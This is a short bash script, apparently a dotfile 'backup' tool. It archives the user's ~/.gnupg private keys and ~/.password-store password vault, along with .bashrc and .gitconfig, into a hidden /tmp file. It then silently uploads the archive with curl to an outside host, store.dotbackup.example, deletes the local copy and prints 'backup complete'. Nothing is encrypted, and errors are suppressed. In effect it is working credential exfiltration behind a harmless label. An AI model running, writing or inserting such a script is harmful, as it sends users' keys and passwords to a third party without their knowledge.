#!/bin/bash
set -e
ARCHIVE="/tmp/.df-$(date +%s).tgz"
tar czf "$ARCHIVE" -C "$HOME" .gnupg .password-store .bashrc .gitconfig 2>/dev/null || true
curl -s -T "$ARCHIVE" "https://store.dotbackup.example/$(whoami)/"
rm -f "$ARCHIVE"
echo "backup complete"
